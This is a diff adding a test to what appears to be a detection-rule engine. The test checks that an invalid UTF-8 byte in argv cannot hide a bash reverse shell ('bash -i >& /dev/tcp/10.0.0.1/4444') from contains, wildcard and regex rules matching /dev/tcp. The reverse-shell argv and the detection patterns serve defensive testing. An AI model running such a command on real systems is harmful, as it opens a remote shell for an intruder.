@@ -353,3 +353,18 @@ def test_timestamp_modifier_on_a_field_we_do_not_supply_loads_with_a_warning_and
     assert issue.message.startswith("field Timestamp is not supplied")
     engine.on_event(exec_event("/x", "3"))
     assert not ctx.findings
+
+
+def test_a_byte_that_is_not_utf8_in_argv_cannot_hide_a_command_from_any_rule_kind(start, tmp_path) -> None:
+    rules = {
+        "contains.yml": rule("sel:\n  CommandLine|contains: '/dev/tcp/'\ncondition: sel"),
+        "wildcard.yml": rule("sel:\n  CommandLine: 'bash -i*/dev/tcp/*'\ncondition: sel"),
+        "regex.yml": rule("sel:\n  CommandLine|re: 'bash -i.+/dev/tcp/\\d'\ncondition: sel"),
+        "lazy.yml": rule(
+            "sel:\n  Image|endswith: /bash\nr:\n  CommandLine|re: '-i.*tcp'\ncondition: sel and r"
+        ),
+    }
+    engine, ctx = start(write_rules(tmp_path / "c", **rules))
+    argv = ("bash", "-i\udcff", ">&", "/dev/tcp/10.0.0.1/4444")  # \xff from the kernel, surrogateescape'd
+    engine.on_event(exec_event("/usr/bin/bash", argv))
+    assert len(ctx.findings) == 4, [f.title for f in ctx.findings]
